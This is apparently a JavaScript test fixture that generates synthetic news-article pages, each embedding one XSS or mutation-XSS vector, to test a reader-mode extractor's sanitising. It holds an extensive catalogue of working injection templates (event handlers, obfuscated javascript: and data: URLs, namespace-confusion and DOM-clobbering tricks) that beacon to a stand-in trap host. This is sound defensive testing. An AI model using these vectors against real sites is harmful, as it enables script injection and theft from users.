// A browser attack corpus for Pith's front ends (issue 14): realistic articles, each with one
// XSS / mutation-XSS vector inside the article body. Written here, no dataset pages.
//
// Every page is a whole document: a news-site shell (navigation, related links, footer), an
// article with a heading, byline, lead photo and six paragraphs of prose, and one vector
// placed between the second and third paragraphs (or inside a paragraph, for inline ones).
// The second paragraph holds `sentence`, a sentence found on that page only: the test checks
// that the article was still extracted, vector or not.
//
// What a vector does when it runs: its payload (`payload(name)`) requests
// http://trap.invalid/js/NAME and calls `top.__trap(NAME, own)`. `own` is true when the
// element that ran it sits in the page's own tree (the page parsed the vector itself: the
// bookmarklet's page runs its own vectors at load, which is no fault of Pith's), false when
// it sits in the reader overlay's shadow root or when there is no element (a javascript: URL,
// a script in a frame). Vectors without script (stylesheets, frames, <base>, refresh) point
// at http://trap.invalid/ref/NAME (a static reference the page makes) or
// http://trap.invalid/nav/NAME (a navigation). The only other hosts a page names are
// img.test, for the images it shows (`images`: /photos/ load, /missing/ answer 404 so that
// onerror vectors fire), and news.test for its own links (never fetched).
//
// hostilePages() -> [{ name, family, vector, title, sentence, images, html }]

export const TRAP_HOST = 'trap.invalid';
export const IMAGE_HOST = 'img.test';
const TRAP = `http://${TRAP_HOST}`;
const IMG = `http://${IMAGE_HOST}`;

/**
 * The script a vector runs: no double quotes, no `<`, `>` or `&`, so it goes unescaped into a
 * quoted attribute, a javascript: URL, a data: URL or a <script>.
 * @param {string} name
 */
export function payload(name) {
  return (
    `(function(e){var o=0;try{var r=e.getRootNode();o=r===document||(r.host?r.host.id!=='pith-reader':0)}catch(x){}` +
    `(new Image).src='${TRAP}/js/${name}?own='+(o?1:0);try{top.__trap('${name}',!!o)}catch(x){}})(this)`
  );
}

/** The page's own harmless script: `__trap` records who called it, and when. */
export const TRAP_SCRIPT =
  'window.__trapped=[];window.__trap=function(name,own){window.__trapped.push({name:String(name),own:own===true,armed:!!window.__armed,at:location.href});};';

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
/** Text for a double-quoted attribute value (srcdoc). */
const attr = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

// ---- the vectors -----------------------------------------------------------------------------
//
// Each is (ctx) => html, with ctx = { P: the payload, n: the page's name, M: a missing image,
// L: a legit image }. Families follow the published XSS and mutation-XSS cheat sheets.

/** Schemes for URL attributes, as raw attribute text (entities and control characters as the page writes them). */
const SCHEMES = {
  'javascript': (P) => `javascript:${P}`,
  'mixed-case': (P) => `JaVaScRiPt:${P}`,
  'entity-dec': (P) => `&#106;avascript:${P}`,
  'entity-hex': (P) => `&#x6A;avascript:${P}`,
  'entity-nosemi': (P) => `&#0000106&#0000097vascript:${P}`,
  'entity-colon': (P) => `javascript&colon;${P}`,
  'tab-entity': (P) => `java&#9;script:${P}`,
  'tab-raw': (P) => `java\tscript:${P}`,
  'newline-entity': (P) => `java&NewLine;script:${P}`,
  'control-lead': (P) => `\x01javascript:${P}`,
  'space-control-lead': (P) => ` &#14; javascript:${P}`,
  'vbscript': () => `vbscript:msgbox("pith")`.replace(/"/g, '&quot;'),
  'data-html': (P) => `data:text/html,<script>${P}</script>`,
  'data-html-b64': (P) => `data:text/html;base64,${b64(`<script>${P}</script>`)}`,
};

/** URL attributes: (url) => html. */
const URL_ATTRS = {
  'a-href': (u) => `<p>The full data set is in <a href="${u}">the agency's published report</a>, which runs to forty pages.</p>`,
  'iframe-src': (u) => `<iframe src="${u}" width="400" height="200"></iframe>`,
  'area-href': (u, c) => `<map name="m-${c.n}"><area shape="rect" coords="0,0,80,80" href="${u}" alt="Map detail"></map><img src="${c.L}" usemap="#m-${c.n}" alt="Map of the district">`,
  'form-action': (u) => `<form action="${u}"><button>Send a tip</button></form>`,
  'button-formaction': (u) => `<form><button formaction="${u}">Send a tip</button></form>`,
  'input-formaction': (u) => `<form><input type="submit" formaction="${u}" value="Send a tip"></form>`,
  'img-src': (u) => `<img src="${u}" alt="A chart of the figures">`,
  'embed-src': (u) => `<embed src="${u}" width="300" height="150">`,
  'object-data': (u) => `<object data="${u}" width="300" height="150"></object>`,
  'video-poster': (u) => `<video poster="${u}" width="320" height="180"></video>`,
  'table-background': (u) => `<table background="${u}"><tr><th>Year</th><th>Total</th></tr><tr><td>2024</td><td>312</td></tr></table>`,
  'td-background': (u) => `<table><tr><td background="${u}">Figures for the year</td></tr></table>`,
  'svg-xlink-href': (u) => `<svg width="120" height="40"><a xlink:href="${u}"><text x="10" y="25">Open chart</text></a></svg>`,
  'svg-href': (u) => `<svg width="120" height="40"><a href="${u}"><text x="10" y="25">Open chart</text></a></svg>`,
  'img-srcset': (u) => `<img srcset="${u} 1x" alt="A chart of the figures">`,
  'a-ping': (u) => `<p>Read <a href="http://news.test/more/" ping="${u}">more from the desk</a> on the subject.</p>`,
  'blockquote-cite': (u) => `<blockquote cite="${u}"><p>We did not expect the numbers to move this fast, said the lead author of the study.</p></blockquote>`,
  'math-href': (u) => `<math href="${u}"><mi>x</mi></math>`,
  'link-href': (u) => `<link rel="stylesheet" href="${u}">`,
};

/** Which schemes each URL attribute is tried with: all for links and frames, a rotating few for the rest. */
function urlVectors() {
  const schemes = Object.keys(SCHEMES);
  const out = [];
  let turn = 0;
  for (const [attrName, make] of Object.entries(URL_ATTRS)) {
    const all = attrName === 'a-href' || attrName === 'iframe-src';
    const picked = all ? schemes : [0, 1, 2, 3].map((k) => schemes[(turn + k * 3) % schemes.length]);
    turn += 1;
    for (const s of picked) {
      out.push({ family: 'url-scheme', vector: `${attrName}/${s}`, make: (c) => make(SCHEMES[s](c.P), c) });
    }
  }
  return out;
}

/** @type {Array<[family: string, vector: string, make: (c: any) => string]>} */
const VECTORS = [
  // Event handlers on many elements.
  ['event-handler', 'img-onerror', (c) => `<img src="${c.M}" onerror="${c.P}" alt="River levels">`],
  ['event-handler', 'img-onerror-uppercase', (c) => `<IMG SRC="${c.M}" ONERROR="${c.P}">`],
  ['event-handler', 'img-onerror-slashes', (c) => `<img/src="${c.M}"/onerror="${c.P}">`],
  ['event-handler', 'img-empty-src-onerror', (c) => `<img src onerror="${c.P}">`],
  ['event-handler', 'img-onload', (c) => `<img src="${c.L}" onload="${c.P}" alt="The harbour at dawn">`],
  ['event-handler', 'svg-onload', (c) => `<svg onload="${c.P}" width="10" height="10"></svg>`],
  ['event-handler', 'svg-animate-onbegin', (c) => `<svg><animate onbegin="${c.P}" attributeName="x" dur="1s"></animate></svg>`],
  ['event-handler', 'svg-set-onbegin', (c) => `<svg><set onbegin="${c.P}" attributeName="y" to="1"></set></svg>`],
  ['event-handler', 'svg-image-onerror', (c) => `<svg><image href="${c.M}" onerror="${c.P}"></image></svg>`],
  ['event-handler', 'body-onload', (c) => `<body onload="${c.P}">`],
  ['event-handler', 'body-onpageshow', (c) => `<body onpageshow="${c.P}">`],
  ['event-handler', 'details-ontoggle', (c) => `<details open ontoggle="${c.P}"><summary>How the figures were gathered</summary><p>Counts were taken weekly.</p></details>`],
  ['event-handler', 'video-onerror', (c) => `<video src="${c.M}.mp4" onerror="${c.P}"></video>`],
  ['event-handler', 'video-source-onerror', (c) => `<video><source src="${c.M}.webm" onerror="${c.P}"></video>`],
  ['event-handler', 'video-onloadstart', (c) => `<video src="${c.M}.mp4" onloadstart="${c.P}"></video>`],
  ['event-handler', 'audio-onerror', (c) => `<audio src="${c.M}.mp3" onerror="${c.P}"></audio>`],
  ['event-handler', 'input-autofocus-onfocus', (c) => `<input autofocus onfocus="${c.P}">`],
  ['event-handler', 'select-autofocus-onfocus', (c) => `<select autofocus onfocus="${c.P}"><option>One</option></select>`],
  ['event-handler', 'textarea-autofocus-onfocus', (c) => `<textarea autofocus onfocus="${c.P}"></textarea>`],
  ['event-handler', 'custom-element-onfocus', (c) => `<pith-x tabindex="1" autofocus onfocus="${c.P}">note</pith-x>`],
  ['event-handler', 'a-autofocus-onfocus', (c) => `<a href="#top" autofocus onfocus="${c.P}">back to top</a>`],
  ['event-handler', 'marquee-onstart', (c) => `<marquee onstart="${c.P}">Latest figures</marquee>`],
  ['event-handler', 'iframe-onload', (c) => `<iframe onload="${c.P}"></iframe>`],
  ['event-handler', 'object-onerror', (c) => `<object data="${c.M}" onerror="${c.P}"></object>`],
  ['event-handler', 'style-onload', (c) => `<style onload="${c.P}"></style>`],
  ['event-handler', 'input-image-onerror', (c) => `<input type="image" src="${c.M}" onerror="${c.P}">`],
  ['event-handler', 'div-onmouseover', (c) => `<div onmouseover="${c.P}"><p>Hover over the table for detail.</p></div>`],
  ['event-handler', 'p-onclick', (c) => `<p onclick="${c.P}">Tap here to see the breakdown by district.</p>`],
  ['event-handler', 'onanimationstart', (c) => `<style>@keyframes pith-spin{from{opacity:1}to{opacity:.9}}</style><div style="animation:pith-spin 1s" onanimationstart="${c.P}"><p>Animated note.</p></div>`],
  ['event-handler', 'ontransitionrun-popover', (c) => `<div popover="auto" id="pop-${c.n}" onbeforetoggle="${c.P}">Popover</div>`],

  // Script elements.
  ['script', 'script-inline', (c) => `<script>${c.P}</script>`],
  ['script', 'script-module', (c) => `<script type="module">${c.P}</script>`],
  ['script', 'script-src-data', (c) => `<script src="data:text/javascript,${c.P}"></script>`],
  ['script', 'script-src-remote', (c) => `<script src="${TRAP}/ref/${c.n}.js"></script>`],
  ['script', 'script-split-tags', (c) => `<scr<script>ipt>${c.P}</scr</script>ipt>`],
  ['script', 'svg-script', (c) => `<svg><script>${c.P}</script></svg>`],
  ['script', 'svg-script-href', (c) => `<svg><script href="data:text/javascript,${c.P}"></script></svg>`],

  // Frames, objects, embeds.
  ['frame', 'iframe-srcdoc-script', (c) => `<iframe srcdoc="${attr(`<script>${c.P}</script>`)}"></iframe>`],
  ['frame', 'iframe-srcdoc-img', (c) => `<iframe srcdoc="${attr(`<img src="${c.M}" onerror="${c.P}">`)}"></iframe>`],
  ['frame', 'iframe-remote', (c) => `<iframe src="${TRAP}/ref/${c.n}.html"></iframe>`],
  ['frame', 'object-remote-html', (c) => `<object data="${TRAP}/ref/${c.n}.html" type="text/html"></object>`],
  ['frame', 'embed-remote', (c) => `<embed src="${TRAP}/ref/${c.n}.swf" type="application/x-shockwave-flash">`],
  ['frame', 'object-data-b64', (c) => `<object data="data:text/html;base64,${b64(`<script>${c.P}</script>`)}"></object>`],
  ['frame', 'embed-svg-onload', (c) => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c.P}"/>`)}">`],
  ['frame', 'portal-remote', (c) => `<portal src="${TRAP}/nav/${c.n}"></portal>`],

  // Navigation and document-wide elements.
  ['head-element', 'base-remote', (c) => `<base href="${TRAP}/ref/${c.n}/"><p>See <a href="reports/2024.html">the 2024 report</a>.</p>`],
  ['head-element', 'base-javascript', (c) => `<base href="javascript:/a/-${c.P}//"><p>See <a href="../reports/2024.html">the 2024 report</a>.</p>`],
  ['head-element', 'meta-refresh-remote', (c) => `<meta http-equiv="refresh" content="0;url=${TRAP}/nav/${c.n}">`],
  ['head-element', 'meta-refresh-javascript', (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c.P}">`],
  ['head-element', 'meta-refresh-data', (c) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${c.P}</script>`)}">`],
  ['head-element', 'meta-set-cookie', () => `<meta http-equiv="set-cookie" content="pith_trap=1; path=/">`],
  ['head-element', 'meta-csp', () => `<meta http-equiv="Content-Security-Policy" content="script-src 'none'">`],
  ['head-element', 'link-prefetch', (c) => `<link rel="prefetch" href="${TRAP}/ref/${c.n}">`],

  // SVG and MathML namespace confusion (mutation XSS).
  ['namespace', 'svg-style-img', (c) => `<svg><style><img src="${c.M}" onerror="${c.P}"></style></svg>`],
  ['namespace', 'math-mtext-table-mglyph-style', (c) => `<math><mtext><table><mglyph><style><img src="${c.M}" onerror="${c.P}"></style></mglyph></table></mtext></math>`],
  ['namespace', 'math-mglyph-style-comment', (c) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=${c.M} onerror=&quot;${c.P}&quot;&gt;"></style></mglyph></table></mtext></math>`],
  ['namespace', 'svg-p-style-attr', (c) => `<svg></p><style><a id="</style><img src=${c.M} onerror=&quot;${c.P}&quot;>"></style></svg>`],
  ['namespace', 'form-math-mglyph', (c) => `<form><math><mtext></form><form><mglyph><style></math><img src="${c.M}" onerror="${c.P}"></style></mglyph></form></mtext></math></form>`],
  ['namespace', 'math-style-img', (c) => `<math><style><img src="${c.M}" onerror="${c.P}"></style></math>`],
  ['namespace', 'svg-foreignobject-img', (c) => `<svg><foreignObject><img src="${c.M}" onerror="${c.P}"></foreignObject></svg>`],
  ['namespace', 'math-annotation-xml-html', (c) => `<math><annotation-xml encoding="text/html"><img src="${c.M}" onerror="${c.P}"></annotation-xml></math>`],
  ['namespace', 'svg-desc-img', (c) => `<svg><desc><img src="${c.M}" onerror="${c.P}"></desc></svg>`],
  ['namespace', 'svg-title-style', (c) => `<svg><title><style><img src="${c.M}" onerror="${c.P}"></style></title></svg>`],
  ['namespace', 'math-mi-mglyph-svg-textarea', (c) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=&quot;${c.P}&quot; src=${c.M}>"></path></textarea></mtext></svg></mglyph></mi></math>`],
  ['namespace', 'svg-animate-href', (c) => `<svg><a><animate attributeName="href" values="javascript:${c.P}"></animate><text x="10" y="20">chart</text></a></svg>`],
  ['namespace', 'svg-set-onmouseover', (c) => `<svg><rect width="50" height="20"><set attributeName="onmouseover" to="${c.P}"></set></rect></svg>`],
  ['namespace', 'math-maction-href', (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${c.P}"><mtext>formula</mtext></maction></math>`],
  ['namespace', 'svg-use-data', (c) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${c.M}" onerror="${c.P}"/></svg>`)}#x"></use></svg>`],

  // Elements whose content is re-parented or re-read as markup.
  ['reparent', 'noscript-title', (c) => `<noscript><p title="</noscript><img src=${c.M} onerror=&quot;${c.P}&quot;>"></p></noscript>`],
  ['reparent', 'template-img', (c) => `<template><img src="${c.M}" onerror="${c.P}"></template>`],
  ['reparent', 'template-shadowroot', (c) => `<div><template shadowrootmode="open"><img src="${c.M}" onerror="${c.P}"></template></div>`],
  ['reparent', 'select-img', (c) => `<select><img src="${c.M}" onerror="${c.P}"></select>`],
  ['reparent', 'select-template', (c) => `<select><template><img src="${c.M}" onerror="${c.P}"></template></select>`],
  ['reparent', 'table-foster', (c) => `<table><img src="${c.M}" onerror="${c.P}"><tr><td>312</td></tr></table>`],
  ['reparent', 'table-a-adoption', (c) => `<p><a href="http://news.test/a/"><table><a href="javascript:${c.P}">figures</a></table></a></p>`],
  ['reparent', 'textarea-img', (c) => `<textarea><img src="${c.M}" onerror="${c.P}"></textarea>`],
  ['reparent', 'title-img', (c) => `<title><img src="${c.M}" onerror="${c.P}"></title>`],
  ['reparent', 'xmp-img', (c) => `<xmp><img src="${c.M}" onerror="${c.P}"></xmp>`],
  ['reparent', 'noembed-img', (c) => `<noembed><img src="${c.M}" onerror="${c.P}"></noembed>`],
  ['reparent', 'noframes-img', (c) => `<noframes><img src="${c.M}" onerror="${c.P}"></noframes>`],
  ['reparent', 'iframe-text-img', (c) => `<iframe><img src="${c.M}" onerror="${c.P}"></iframe>`],
  ['reparent', 'style-text-img', (c) => `<style><img src="${c.M}" onerror="${c.P}"></style>`],
  ['reparent', 'option-img', (c) => `<select><option><img src="${c.M}" onerror="${c.P}"></option></select>`],

  // Comment and CDATA tricks.
  ['comment', 'comment-abrupt', (c) => `<!--><img src="${c.M}" onerror="${c.P}">-->`],
  ['comment', 'comment-abrupt-dash', (c) => `<!---><img src="${c.M}" onerror="${c.P}">-->`],
  ['comment', 'comment-bang-end', (c) => `<!-- note --!><img src="${c.M}" onerror="${c.P}">-->`],
  ['comment', 'comment-in-attr', (c) => `<!--<img src="--><img src=${c.M} onerror=&quot;${c.P}&quot;>">`],
  ['comment', 'conditional-comment', (c) => `<!--[if IE]><img src="${c.M}" onerror="${c.P}"><![endif]-->`],
  ['comment', 'svg-cdata', (c) => `<svg><![CDATA[><img src="${c.M}" onerror="${c.P}">]]></svg>`],
  ['comment', 'html-cdata', (c) => `<p>Note <![CDATA[><img src="${c.M}" onerror="${c.P}">]]></p>`],
  ['comment', 'processing-instruction', (c) => `<?xml-stylesheet ><img src="${c.M}" onerror="${c.P}">?>`],
  ['comment', 'end-tag-attrs', (c) => `<p>Note.</p foo="><img src=${c.M} onerror=&quot;${c.P}&quot;>">`],

  // CSS.
  ['css', 'style-attr-url-javascript', (c) => `<div style="background:url(javascript:${c.P.replace(/'/g, '\\\'')})"><p>Shaded box.</p></div>`],
  ['css', 'style-attr-url-remote', (c) => `<div style="background-image:url('${TRAP}/ref/${c.n}')"><p>Shaded box.</p></div>`],
  ['css', 'style-attr-expression', (c) => `<div style="width:expression(${c.P})"><p>Wide box.</p></div>`],
  ['css', 'style-attr-escaped-expression', (c) => `<div style="width:\\65 xpression(${c.P})"><p>Wide box.</p></div>`],
  ['css', 'style-import', (c) => `<style>@import '${TRAP}/ref/${c.n}.css';</style>`],
  ['css', 'style-url', (c) => `<style>body{background:url(${TRAP}/ref/${c.n}.png)}</style>`],
  ['css', 'style-font-face', (c) => `<style>@font-face{font-family:pith-trap;src:url(${TRAP}/ref/${c.n}.woff)}p{font-family:pith-trap}</style>`],
  ['css', 'style-behavior', (c) => `<style>p{behavior:url(${TRAP}/ref/${c.n}.htc);-moz-binding:url(${TRAP}/ref/${c.n}.xml#x)}</style>`],
  ['css', 'link-stylesheet', (c) => `<link rel="stylesheet" href="${TRAP}/ref/${c.n}.css">`],
  ['css', 'link-import', (c) => `<link rel="import" href="${TRAP}/ref/${c.n}.html">`],
  ['css', 'style-in-svg-import', (c) => `<svg><style>@import '${TRAP}/ref/${c.n}.css';</style></svg>`],

  // Forms.
  ['form', 'form-action-remote', (c) => `<form action="${TRAP}/nav/${c.n}" method="post"><input name="q" value="tip"><button>Send</button></form>`],
  ['form', 'form-onsubmit', (c) => `<form onsubmit="${c.P}"><button>Send</button></form>`],
  ['form', 'button-form-attr', (c) => `<form id="f-${c.n}"></form><button form="f-${c.n}" formaction="javascript:${c.P}">Send</button>`],
  ['form', 'input-image-formaction', (c) => `<form><input type="image" src="${c.L}" formaction="javascript:${c.P}" alt="Send"></form>`],
  ['form', 'isindex', (c) => `<isindex type="image" src="${c.M}" onerror="${c.P}" action="javascript:${c.P}">`],
  ['form', 'keygen-autofocus', (c) => `<keygen autofocus onfocus="${c.P}">`],

  // DOM clobbering: named elements that shadow the document's and window's properties.
  ['clobbering', 'img-name-getElementById', (c) => `<img name="getElementById" src="${c.L}" alt="Clobbered">`],
  ['clobbering', 'img-name-createElement', (c) => `<img name="createElement" src="${c.L}" alt="Clobbered">`],
  ['clobbering', 'form-name-documentElement', () => `<form name="documentElement"><p>A survey form.</p></form>`],
  ['clobbering', 'img-name-body', (c) => `<img name="body" src="${c.L}" alt="Clobbered">`],
  ['clobbering', 'embed-name-querySelector', () => `<embed name="querySelector" type="text/plain">`],
  ['clobbering', 'img-name-adoptNode', (c) => `<img name="adoptNode" src="${c.L}" alt="Clobbered">`],
  ['clobbering', 'form-id-document', () => `<form id="document"><input name="cookie" value="x"></form>`],
  ['clobbering', 'a-id-location', (c) => `<p><a id="location" href="javascript:${c.P}">Where this was reported</a></p>`],
  ['clobbering', 'form-input-name-attributes', (c) => `<form onmouseover="${c.P}"><input name="attributes"><input name="nodeName"><input name="removeAttribute"></form>`],
  ['clobbering', 'a-id-PithReader', () => `<p><a id="PithReader" href="http://news.test/x">A named link</a></p>`],
  ['clobbering', 'a-id-pithLoading', () => `<p><a id="__pithLoading" href="http://news.test/y">Another named link</a></p>`],
  ['clobbering', 'a-id-pith-reader-twin', () => `<div id="pith-reader"><p>An element that takes the overlay's id.</p></div>`],

  // Markup that must stay text: escaping of text and attribute values in the output.
  ['escaping', 'text-escaped-img', (c) => `<p>The payload &lt;img src=${c.M} onerror="${c.P}"&gt; was shown as text.</p>`],
  ['escaping', 'title-attr-breakout', (c) => `<p title="&quot;&gt;&lt;img src=${c.M} onerror=${c.P.replace(/ /g, '/')}&gt;">Hover text.</p>`],
  ['escaping', 'title-attr-tag-close', (c) => `<p title="</p><img src=${c.M} onerror=&quot;${c.P}&quot;>">Hover text again.</p>`],
  ['escaping', 'alt-attr-breakout', (c) => `<img src="${c.L}" alt="&quot;&gt;&lt;img src=${c.M} onerror=&quot;${c.P}&quot;&gt;">`],
  ['escaping', 'code-class-breakout', (c) => `<pre><code class="language-js&quot;&gt;&lt;img src=${c.M} onerror=&quot;${c.P}&quot;&gt;">let x = 1;</code></pre>`],
  ['escaping', 'time-datetime-breakout', (c) => `<p><time datetime="2024&quot;&gt;&lt;img src=${c.M} onerror=&quot;${c.P}&quot;&gt;">last spring</time></p>`],
  ['escaping', 'href-breakout', (c) => `<p><a href="http://news.test/&quot;&gt;&lt;img src=${c.M} onerror=&quot;${c.P}&quot;&gt;">an odd link</a></p>`],
  ['escaping', 'rcdata-in-pre', (c) => `<pre>&lt;/pre&gt;&lt;img src=${c.M} onerror="${c.P}"&gt;</pre>`],
];

// ---- the articles ----------------------------------------------------------------------------

const TOPICS = [
  {
    section: 'Environment',
    titles: ['The river that came back', 'Counting birds on a drowned coast', 'What the glacier left behind', 'A town learns to live with floods'],
    place: 'lower valley',
    sentences: [
      'For most of the last century the river ran brown with silt from the upstream mines, and few people in town remembered it any other way.',
      'Volunteers now walk the banks every Saturday morning, notebooks in hand, recording what they see and what they no longer see.',
      'The regional water board says the recovery began slowly, with a handful of small weirs removed in the early years and little money to spare.',
      'Fishermen were the first to notice the change, long before any scientist had published a paper on it.',
      'Not everyone is pleased: farmers downstream worry that a wilder river will take more of their fields each spring.',
      'The numbers are modest, but the trend has held for eleven years, which is longer than most such projects survive.',
      'A local school has adopted a stretch of the bank and keeps a weekly log that the university now cites in its reports.',
      'Critics say the gains could vanish in a single dry summer if the upstream reservoirs are drawn down again.',
    ],
  },
  {
    section: 'Technology',
    titles: ['Inside the slow rebuild of a city archive', 'The engineers who keep old trains running', 'Why a small library went offline on purpose', 'The last repair shop on the high street'],
    place: 'old depot',
    sentences: [
      'The workshop smells of oil and solder, and the shelves are lined with parts that no manufacturer has made for decades.',
      'Most of the staff learned their trade from someone who learned it from the original builders, a chain that is getting shorter every year.',
      'The city council has twice tried to close the place, and twice backed down after a petition gathered thousands of names.',
      'Every machine that comes through the door gets a card describing what was wrong, what was done and how long it took.',
      'Those cards, stacked in boxes going back forty years, turn out to be a better record of the city than the official files.',
      'Younger apprentices bring laptops and spreadsheets, but they still check their work against the handwritten notes.',
      'A visiting historian called the collection one of the most complete accounts of everyday engineering she had seen.',
      'The budget for next year is not settled, and the manager spends as much time on grant applications as on repairs.',
    ],
  },
  {
    section: 'Science',
    titles: ['A telescope built by a village', 'The long wait for a comet', 'How a student found a lost moth', 'Listening to the ocean floor'],
    place: 'northern ridge',
    sentences: [
      'The instrument sits in a converted barn, its mirror ground by hand over three winters by a retired optician and his neighbours.',
      'On clear nights the group takes turns at the eyepiece, logging what they see in a shared notebook that anyone can read.',
      'Professional astronomers were sceptical at first, but the observations have since been confirmed by two larger observatories.',
      'The project has cost less than a family car, most of it spent on a motor that keeps the telescope pointed as the sky turns.',
      'Children from the local school visit once a month, and several have gone on to study physics at university.',
      'The darkest hours are in late autumn, when the weather is worst, so patience is the main requirement for membership.',
      'A grant from a regional foundation paid for a camera last year, and the first images were shown at the village hall.',
      'The founders say they never meant to do real science; they only wanted to see the rings of Saturn for themselves.',
    ],
  },
  {
    section: 'Culture',
    titles: ['The choir that sings in a mine', 'A century of letters in one attic', 'Reviving a forgotten festival', 'The printer who refuses to retire'],
    place: 'market square',
    sentences: [
      'The first rehearsal drew eleven people and a dog, according to the minutes, which were kept with great care from the start.',
      'Today the group fills a coach for every performance, and the waiting list to join is longer than the list of members.',
      'The music is mostly old, collected from elderly singers in the surrounding villages before their songs could be lost.',
      'Funding comes from ticket sales and a bake stall, which the treasurer says has raised more than any grant ever did.',
      'A recording made in the cathedral last winter sold out within a week and is being pressed again.',
      'The director is quick to point out that nobody is paid, and that the best singers are not always the most reliable.',
      'Rehearsals run late on Thursdays, and the caretaker has learned to leave the heating on until the last note.',
      'Next year the group plans to tour abroad for the first time, if the coach and the budget both hold out.',
    ],
  },
];

const AUTHORS = ['Mara Lindqvist', 'Tomás Ferreira', 'Ada Okonkwo', 'Henrik Vos', 'Leila Haddad', 'Jun Takeda', 'Priya Raman', 'Owen Marsh'];
const MONTHS = ['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'];

/** A small seeded generator, so that the corpus is the same on every run. */
function rng(seed) {
  let s = seed >>> 0 || 1;
  return () => {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    return (s >>> 0) / 4294967296;
  };
}

/** Sentences any of the stories may use, besides their own topic's. */
const SHARED = [
  'Officials declined to comment on the record, but two people familiar with the plans described them in some detail.',
  'The figures were compiled from public records and checked against interviews with more than a dozen residents.',
  'Much of the work has been done without fanfare, and the people involved seem to prefer it that way.',
  'A spokesperson for the county said a review was under way and that no decision would be made before the spring.',
  'Similar efforts elsewhere have stalled once the first enthusiasm faded and the volunteers moved on.',
  'What happens next depends largely on the weather, the budget and the patience of a few determined people.',
  'Several of those interviewed asked that their names not be used, citing the small size of the community.',
  'The story has been told before, in pieces, but rarely with the records that are now available to anyone.',
  'Local papers covered the early meetings closely and then, as often happens, lost interest.',
  'There is no single reason for the change, according to the people who have watched it most closely.',
  'In the meantime the routine continues: early starts, careful notes and long conversations over coffee.',
  'Those who were there at the beginning say the hardest part was persuading anyone to take it seriously.',
];

/** Six paragraphs of three or four sentences, the topic's own and shared ones shuffled. */
function paragraphs(topic, rand) {
  const pool = [...topic.sentences, ...SHARED];
  for (let k = pool.length - 1; k > 0; k--) {
    const j = Math.floor(rand() * (k + 1));
    [pool[k], pool[j]] = [pool[j], pool[k]];
  }
  const out = [];
  let at = 0;
  for (let k = 0; k < 6; k++) {
    const count = 3 + (k % 2);
    out.push(Array.from({ length: count }, (_, j) => pool[(at + j) % pool.length]).join(' '));
    at += count;
  }
  return out;
}

/**
 * One hostile page.
 * @param {number} i
 * @param {{ family: string, vector: string, make: (c: any) => string }} v
 */
function page(i, v) {
  const rand = rng(i * 7919 + 17);
  const topic = TOPICS[i % TOPICS.length];
  const name = `h${String(i).padStart(3, '0')}-${v.vector.replace(/[^a-zA-Z0-9]+/g, '-')}`;
  const title = `${topic.titles[Math.floor(i / TOPICS.length) % topic.titles.length]}: notes from the ${topic.place}, part ${i + 1}`;
  const author = AUTHORS[i % AUTHORS.length];
  const day = 1 + (i % 28);
  const month = i % 12;
  const date = `2025-${String(month + 1).padStart(2, '0')}-${String(day).padStart(2, '0')}`;
  const observations = 1000 + i * 37;
  const sentence = `By the end of the season the team had logged ${observations.toLocaleString('en-US')} separate observations along the ${topic.place} route.`;
  const lead = `${IMG}/photos/${name}-lead.jpg`;
  const inline = `${IMG}/photos/${name}-detail.jpg`;
  const missing = `${IMG}/missing/${name}`;
  const ctx = { P: payload(name), n: name, M: `${missing}.png`, L: inline };
  const vector = v.make(ctx);

  const paras = paragraphs(topic, rand);
  paras[1] = `${paras[1]} ${sentence}`;
  const body = [
    `<p>${paras[0]}</p>`,
    `<p>${paras[1]}</p>`,
    vector,
    `<p>${paras[2]}</p>`,
    `<p>${paras[3]}</p>`,
    `<figure><img src="${inline}" width="800" height="450" alt="A detail from the ${topic.place}"><figcaption>Field work at the ${topic.place}.</figcaption></figure>`,
    `<p>${paras[4]}</p>`,
    `<p>${paras[5]} The desk will return to the story next month.</p>`,
  ].join('\n');

  const html = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${title} | The Ledger</title>
<link rel="icon" href="data:,">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta property="og:title" content="${title}">
<meta property="og:site_name" content="The Ledger">
<meta name="author" content="${author}">
<script>${TRAP_SCRIPT}</script>
</head>
<body>
<header class="site-header"><a class="logo" href="http://news.test/">The Ledger</a>
<nav><ul><li><a href="http://news.test/world/">World</a></li><li><a href="http://news.test/science/">Science</a></li><li><a href="http://news.test/culture/">Culture</a></li><li><a href="http://news.test/subscribe/">Subscribe</a></li></ul></nav></header>
<main>
<article>
<p class="kicker">${topic.section}</p>
<h1>${title}</h1>
<p class="byline">By <span class="author">${author}</span> · <time datetime="${date}">${MONTHS[month]} ${day}, 2025</time></p>
<figure class="lead"><img src="${lead}" width="1200" height="675" alt="The ${topic.place} at first light"><figcaption>The ${topic.place} at first light.</figcaption></figure>
${body}
</article>
</main>
<aside class="related"><h2>More from The Ledger</h2><ul><li><a href="http://news.test/a/">Ten bridges worth the walk</a></li><li><a href="http://news.test/b/">The week in pictures</a></li><li><a href="http://news.test/c/">Letters to the editor</a></li></ul></aside>
<footer><p>© 2025 The Ledger. All rights reserved.</p><p><a href="http://news.test/privacy/">Privacy</a> · <a href="http://news.test/terms/">Terms</a></p></footer>
</body>
</html>
`;
  return { name, family: v.family, vector: v.vector, title, sentence, images: [lead, inline, ctx.M, `${ctx.M}.mp4`, `${ctx.M}.webm`, `${ctx.M}.mp3`], html };
}

/**
 * The whole corpus, the same on every call.
 * @returns {Array<{ name: string, family: string, vector: string, title: string, sentence: string, images: string[], html: string }>}
 */
export function hostilePages() {
  const all = [...VECTORS.map(([family, vector, make]) => ({ family, vector, make })), ...urlVectors()];
  return all.map((v, i) => page(i, v));
}

/**
